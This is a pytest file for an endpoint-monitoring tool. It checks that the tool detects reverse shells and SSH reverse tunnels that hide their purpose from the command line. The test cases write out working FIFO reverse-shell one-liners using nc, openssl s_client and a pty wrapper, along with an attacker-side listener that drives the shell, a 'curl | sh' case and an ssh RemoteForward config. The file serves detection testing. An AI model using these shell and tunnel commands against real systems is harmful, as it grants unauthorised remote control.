"""Shells and tunnels that announce nothing in argv: a shell fed by nc or openssl s_client through a FIFO
and pipes, `curl | sh` (its look-alike), and ssh given RemoteForward in a config file (-F).

Each scenario runs under `eptrace run` in the sandbox namespace against a peer on the test host, like
test_detection.py, whose helpers it uses. Time to alert is printed as TIME-TO-ALERT lines (pytest -s).
"""
from __future__ import annotations

import os
import signal
import subprocess
from pathlib import Path

import pytest

import harness
import test_detection
from eptrace_helpers import alerts, dump, get, wait_until
from harness import HOST_IP
from test_detection import (EpisodeRun, assert_alert, assert_no_alerts, flow_of, report, rule_counts, select,
                            ssh_tunnel_in_use, ts)

# On the test host: the attacker's listener, over TCP or TLS (argv[3]: a cert and key file, or "-").
# Sends one command after the prompt, reads until the command's output (pwned-42) has arrived, logs the
# wall time of that first output, and hangs up.
LISTENER = r'''
import socket, ssl, sys, time
port, command, certs = int(sys.argv[1]), sys.argv[2].encode(), sys.argv[3]
server = socket.create_server(("198.51.100.1", port))
print("listening", flush=True)
while True:
    conn, addr = server.accept()
    if addr[0] == "198.51.100.2":
        break
    conn.close()
if certs != "-":
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(*certs.split(","))
    conn = tls.wrap_socket(conn, server_side=True)
print("peer", addr[0], addr[1], flush=True)
# The shell's prompt first (up to 10 s): a pty wrapper (script) flushes what reaches its terminal before
# it is set up, so a command sent too early under load is lost.
conn.settimeout(10)
try:
    buf = conn.recv(65536)
except (TimeoutError, socket.timeout):
    buf = b""
time.sleep(0.2)
conn.settimeout(15)
conn.sendall(command)
print("sent", repr(time.time()), flush=True)
while b"pwned-42" not in buf:
    data = conn.recv(65536)
    if not data:
        break
    buf += data
    if b"pwned-42" in buf:
        print("output", repr(time.time()), flush=True)
print("got", buf.hex(), flush=True)
conn.close()
'''
@pytest.fixture(autouse=True)
def record_fixture(request, monkeypatch):
    """With EPTRACE_RECORD_FIXTURES=DIR, each run is also captured (--capture) to DIR/<test id>.capture: how
    tests/fixtures/pipes_*.capture were made for tests/unit/test_replay.py."""
    directory = os.environ.get("EPTRACE_RECORD_FIXTURES")
    if directory:
        name = "pipes_" + request.node.name.removeprefix("test_").replace("[", "_").rstrip("]")
        start = test_detection.start_eptrace
        monkeypatch.setattr(test_detection, "start_eptrace", lambda command, *args, **kw: start(
            command, "--capture", str(Path(directory).resolve() / f"{name}.capture"), *args, **kw))


COMMAND = "echo pwned-$((6*7)); exit\n"    # the answer, pwned-42, is not an echo of the input; exit ends it


def listener_line(peer: harness.Peer, key: str, timeout: float = 25.0) -> str:
    def find():
        for line in list(peer.stdout):
            if line.split(" ", 1)[0] == key:
                return (line.split(" ", 1)[1].strip() if " " in line else "",)
        return None
    return wait_until(find, timeout, lambda: f"{key!r} from the listener: {peer.stdout} {peer.stderr}")[0]


def make_certificate(tmp_path) -> str:
    """A test CA and a server certificate it signed, for the TLS listener: "cert,key"."""
    def ossl(*args):
        subprocess.run(["openssl", *map(str, args)], check=True, capture_output=True)
    ossl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=eptrace test CA",
         "-keyout", tmp_path / "ca.key", "-out", tmp_path / "ca.pem")
    ossl("req", "-newkey", "rsa:2048", "-nodes", "-subj", f"/CN={HOST_IP}", "-keyout", tmp_path / "srv.key",
         "-out", tmp_path / "srv.csr")
    ossl("x509", "-req", "-in", tmp_path / "srv.csr", "-CA", tmp_path / "ca.pem", "-CAkey", tmp_path / "ca.key",
         "-CAcreateserial", "-days", "1", "-out", tmp_path / "srv.pem")
    return f"{tmp_path / 'srv.pem'},{tmp_path / 'srv.key'}"


@pytest.mark.parametrize("helper", ["nc", "openssl", "nc-pty"])
def test_fifo_reverse_shell(net, tmp_path, helper):
    port = {"nc": 4451, "openssl": 4452, "nc-pty": 4453}[helper]
    fifo = tmp_path / "f"
    if helper == "nc":
        script = f"rm -f {fifo}; mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | nc {HOST_IP} {port} > {fifo}"
        certs = "-"
    elif helper == "nc-pty":     # a pty wrapper between the pipes and the shell: its stdin is a terminal
        script = (f"rm -f {fifo}; mkfifo {fifo}; cat {fifo} | script -qfc '/bin/sh -i' /dev/null 2>&1 "
                  f"| nc {HOST_IP} {port} > {fifo}")
        certs = "-"
    else:
        script = (f"rm -f {fifo}; mkfifo {fifo}; /bin/sh -i < {fifo} 2>&1 | openssl s_client -quiet "
                  f"-CAfile {tmp_path / 'ca.pem'} -connect {HOST_IP}:{port} > {fifo}")
        certs = make_certificate(tmp_path)
    episode = f"ep-fifo-{helper}"
    listener = harness.python_server(net, LISTENER, port, args=(port, COMMAND, certs), banner="listening\n")
    with listener as peer:
        with EpisodeRun(tmp_path, episode, net.sandbox_prefix() + ["/bin/sh", "-c", script]) as run:
            output_at = float(listener_line(peer, "output"))
            got = bytes.fromhex(listener_line(peer, "got"))
            assert b"pwned-42" in got, got
            alert = run.wait_alert("reverse_shell", timeout=15)
            docs = run.finish(status=None)

    name = "openssl" if helper == "openssl" else "nc"
    conn = flow_of(docs, "connection_established", destination__ip=HOST_IP, destination__port=port)
    assert get(conn, "process.name") == name, conn
    shell = [d for d in select(docs, "process_started") if get(d, "process.args") == ["/bin/sh", "-i"]]
    assert shell, dump(docs)
    assert rule_counts(docs) == {"reverse_shell": 1}, "\n".join(get(a, "message") for a in alerts(docs))
    assert_alert(alert, "reverse_shell", episode, get(shell[0], "process.pid"),
                 [HOST_IP, str(port), name, {"nc": "pipe:[", "openssl": "fifo:[", "nc-pty": "pty:["}[helper]],
                 evidence=conn)
    lag = ts(alert) - output_at
    act = min(ts(d) for d in select(docs, "process_started"))     # the workload's /bin/sh -c
    report(f"reverse_shell FIFO + {helper}", run, alert, conn, "the helper's connection")
    print(f"TIME-TO-ALERT reverse_shell FIFO + {helper}: {lag * 1000:+.0f} ms after the command's output "
          f"reached the listener; {(ts(alert) - act) * 1000:+.0f} ms after the act started", flush=True)
    assert lag <= 2.0, f"alert {lag:.3f}s after the first command's output"


# On the test host: an HTTP server that sends the install script in two parts, 2 s apart, so that curl
# still holds its connection and feeds sh's stdin while the script runs (and connects out again).
SLOW_SCRIPT_SERVER = r'''
import socket, sys, threading, time
parts = [p.encode() for p in sys.argv[1:3]]
server = socket.create_server(("198.51.100.1", 8090))
print("listening", flush=True)
def serve(conn):
    with conn:
        request = conn.recv(4096)
        if b"/data.txt" in request:
            body = b"data-from-host\n"
            conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
            return
        conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % sum(map(len, parts)) + parts[0])
        time.sleep(2)
        conn.sendall(parts[1])
while True:
    conn, _ = server.accept()
    threading.Thread(target=serve, args=(conn,), daemon=True).start()
'''
SCRIPT_PARTS = (f"echo script-ran\ncurl -s --noproxy '*' http://{HOST_IP}:8090/data.txt\n",
                "sleep 1\necho script-done\n")


def test_curl_pipe_sh_is_no_reverse_shell(net, tmp_path):
    """A shell fed by the network whose output goes elsewhere (through `cat`, and the script's own curl
    writing into the same pipe): no alert of any rule. curl feeds sh for 2 s while sh runs."""
    with harness.python_server(net, SLOW_SCRIPT_SERVER, 8090, args=SCRIPT_PARTS, banner="listening\n"):
        cmd = ["/bin/sh", "-c", f"curl -s --noproxy '*' http://{HOST_IP}:8090/install.sh | sh | cat"]
        with EpisodeRun(tmp_path, "ep-curl-sh", net.sandbox_prefix() + cmd) as run:
            docs = run.finish()
    assert "script-done" in run.out.text() and "data-from-host" in run.out.text(), run.out.text()
    fetches = select(docs, "connection_established", destination__ip=HOST_IP, destination__port=8090)
    assert len(fetches) >= 2, dump(docs)
    # the shell that reads the script from its stdin: sh with no argument (args[0] is its absolute path)
    assert [d for d in select(docs, "process_started") if get(d, "process.name") == "sh"
            and len(get(d, "process.args")) == 1], dump(docs)
    assert_no_alerts(docs)


def test_ssh_remote_forward_in_a_config_file(net, tmp_path):
    """`ssh -F FILE` where FILE sets RemoteForward: nothing in argv says tunnel."""
    episode = "ep-ssh-config"
    with harness.sshd(net) as sshd:
        config = tmp_path / "cfg"
        config.write_text(f"Host backup\n    HostName {HOST_IP}\n    Port {sshd.port}\n    User root\n"
                          f"    IdentityFile {sshd.client_key}\n    IdentitiesOnly yes\n"
                          f"    StrictHostKeyChecking no\n    UserKnownHostsFile /dev/null\n    BatchMode yes\n"
                          f"    LogLevel ERROR\n    RemoteForward 9000 127.0.0.1:8000\n"
                          f"Host other\n    LocalForward 9999 127.0.0.1:1\n")
        ssh = ["ssh", "-F", str(config), "-N", "backup"]
        with ssh_tunnel_in_use(net, tmp_path, episode, ssh) as (run, ssh_pid, user, user_out, user_err):
            assert user.returncode == 0, (user_out, user_err, run.err.text()[-2000:])    # the tunnel works
            try:
                alert = run.wait_alert("reverse_tunnel", timeout=10)
            finally:
                os.kill(ssh_pid, signal.SIGTERM)
            docs = run.finish(status=None)
    attempt = flow_of(docs, "connection_attempted", pid=ssh_pid, destination__ip=HOST_IP,
                      destination__port=sshd.port)
    established = flow_of(docs, "connection_established", pid=ssh_pid, destination__ip=HOST_IP,
                          destination__port=sshd.port)
    assert rule_counts(docs) == {"reverse_tunnel": 1}, "\n".join(get(a, "message") for a in alerts(docs))
    assert_alert(alert, "reverse_tunnel", episode, ssh_pid, [HOST_IP, str(sshd.port), "remoteforward 9000"],
                 evidence=established)
    lag = report("reverse_tunnel ssh -F with RemoteForward", run, alert, attempt, "the ssh connect")
    assert lag <= 2.0, lag
